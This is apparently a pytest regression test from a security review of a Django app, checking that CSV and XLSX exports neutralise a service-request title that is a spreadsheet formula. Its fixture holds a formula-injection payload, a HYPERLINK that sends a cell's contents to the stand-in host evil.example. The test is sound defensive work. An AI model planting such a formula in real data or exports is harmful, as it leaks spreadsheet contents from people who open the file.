"""F3 of the security review: a service request titled as a formula is exported as text (CSV and XLSX)."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from littlegiant.services import services

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?d="&C2,"SEC-TEST")'


@pytest.fixture
def booby_trapped(alice, alpha, xihu_centre):
    services.file_request(alpha, by=alice, category="financing", title=FORMULA, description="说明")


def test_the_xlsx_title_is_a_string_not_a_formula(client, hangzhou_reviewer, booby_trapped):
    client.force_login(hangzhou_reviewer)
    response = client.get(reverse("services:export_requests", args=["xlsx"]))
    title = load_workbook(io.BytesIO(response.content)).active.cell(row=2, column=7)
    assert (title.data_type, title.value) == ("s", "'" + FORMULA)


def test_the_csv_title_starts_with_an_apostrophe(client, hangzhou_reviewer, booby_trapped):
    client.force_login(hangzhou_reviewer)
    response = client.get(reverse("services:export_requests", args=["csv"]))
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    assert "\"'=HYPERLINK(" in body
    assert ',"=HYPERLINK(' not in body
